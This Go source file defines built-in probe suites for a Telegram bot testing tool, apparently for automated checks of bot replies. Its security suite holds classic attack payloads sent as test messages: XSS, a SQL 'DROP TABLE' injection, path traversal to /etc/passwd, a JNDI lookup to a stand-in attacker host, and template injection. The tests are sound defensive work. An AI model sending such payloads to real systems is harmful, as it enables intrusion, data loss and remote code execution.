// Package suite bundles probes into named suites: the built-in catalog
// recovered from the harness plus user suites loaded from YAML.
package suite

import (
	"strings"

	"github.com/molkabha/telegram-bot-automation-testing/pkg/probe"
)

// Suite is a named, ordered set of probes.
type Suite struct {
	Name   string
	Probes []probe.Probe
}

// FilterCategory returns a copy of the suite keeping only probes in the
// given category. An empty category keeps everything.
func (s Suite) FilterCategory(category string) Suite {
	if category == "" {
		return s
	}

	category = strings.ToLower(category)

	filtered := Suite{Name: s.Name}
	for _, p := range s.Probes {
		if p.EffectiveCategory() == category {
			filtered.Probes = append(filtered.Probes, p)
		}
	}

	return filtered
}

// Catalog returns the built-in suites.
func Catalog() []Suite {
	return []Suite{
		smokeSuite(),
		greetingsSuite(),
		commandsSuite(),
		conversationSuite(),
		edgeSuite(),
		securitySuite(),
		performanceSuite(),
	}
}

// ByName resolves a built-in suite. The pseudo suite "all" concatenates
// the whole catalog.
func ByName(name string) (Suite, bool) {
	if strings.EqualFold(name, "all") {
		return All(), true
	}

	for _, s := range Catalog() {
		if strings.EqualFold(s.Name, name) {
			return s, true
		}
	}

	return Suite{}, false
}

// All returns every built-in probe as one suite.
func All() Suite {
	all := Suite{Name: "all"}
	for _, s := range Catalog() {
		all.Probes = append(all.Probes, s.Probes...)
	}

	return all
}

// Names lists the selectable built-in suite names.
func Names() []string {
	names := []string{"all"}
	for _, s := range Catalog() {
		names = append(names, s.Name)
	}

	return names
}

func smokeSuite() Suite {
	return Suite{
		Name: "smoke",
		Probes: []probe.Probe{
			{
				Name:     "smoke-start-command",
				Message:  "/start",
				Keywords: []string{"start", "welcome"},
			},
			{
				Name:     "smoke-help-command",
				Message:  "/help",
				Keywords: []string{"help", "commands"},
			},
		},
	}
}

func greetingsSuite() Suite {
	greetingKeywords := []string{"hello", "hi", "welcome", "greetings", "hey"}

	return Suite{
		Name: "greetings",
		Probes: []probe.Probe{
			{
				Name:     "greeting-hello",
				Message:  "Hello",
				Keywords: greetingKeywords,
			},
			{
				Name:     "greeting-casual-hi",
				Message:  "Hi there!",
				Keywords: greetingKeywords,
			},
			{
				Name:     "greeting-hey",
				Message:  "Hey!",
				Keywords: greetingKeywords,
			},
		},
	}
}

func commandsSuite() Suite {
	unknownKeywords := []string{"sorry", "unknown", "help", "command", "available"}

	return Suite{
		Name: "commands",
		Probes: []probe.Probe{
			{Name: "command-start", Message: "/start"},
			{Name: "command-help", Message: "/help"},
			{Name: "command-about", Message: "/about"},
			{Name: "command-info", Message: "/info"},
			{Name: "command-menu", Message: "/menu"},
			{
				Name:     "command-invalid-gibberish",
				Message:  "/nonexistentcommand",
				Keywords: unknownKeywords,
			},
			{
				Name:     "command-invalid-typo",
				Message:  "/hlep",
				Keywords: unknownKeywords,
			},
		},
	}
}

func conversationSuite() Suite {
	return Suite{
		Name: "conversation",
		Probes: []probe.Probe{
			{
				Name:     "conversation-ask-name",
				Message:  "What's your name?",
				Keywords: []string{"name", "bot"},
			},
			{
				Name:     "conversation-gratitude",
				Message:  "Thank you!",
				Keywords: []string{"thank", "welcome"},
			},
			{
				Name:     "conversation-farewell",
				Message:  "/end",
				Keywords: []string{"end", "goodbye", "bye"},
			},
		},
	}
}

// edgeSuite sends the awkward payloads. No keyword expectations, the
// bot just has to answer something without falling over.
func edgeSuite() Suite {
	return Suite{
		Name: "edge",
		Probes: []probe.Probe{
			{Name: "edge-empty-message", Message: ""},
			{Name: "edge-whitespace-only", Message: strings.Repeat(" ", 100)},
			{Name: "edge-max-length", Message: strings.Repeat("a", 4096)},
			{Name: "edge-emoji-flood", Message: strings.Repeat("\U0001F525", 50)},
			{Name: "edge-control-characters", Message: "line1\nline2\ttabbed\r\nend"},
			{Name: "edge-unicode-mixed", Message: "你好世界 مرحبا Привет"},
		},
	}
}

// securitySuite replays classic injection payloads. A passing bot
// answers like any other message, the payload must never change its
// behavior.
func securitySuite() Suite {
	return Suite{
		Name: "security",
		Probes: []probe.Probe{
			{Name: "security-xss-script", Message: "<script>alert('XSS')</script>"},
			{Name: "security-sql-injection", Message: "'; DROP TABLE users; --"},
			{Name: "security-path-traversal", Message: "../../../etc/passwd"},
			{Name: "security-jndi-lookup", Message: "${jndi:ldap://evil.example/a}"},
			{Name: "security-template-injection", Message: "{{7*7}}"},
		},
	}
}

func performanceSuite() Suite {
	s := Suite{Name: "performance"}
	for _, n := range []string{"one", "two", "three", "four", "five"} {
		s.Probes = append(s.Probes, probe.Probe{
			Name:    "perf-quick-message-" + n,
			Message: "ping " + n,
		})
	}

	return s
}
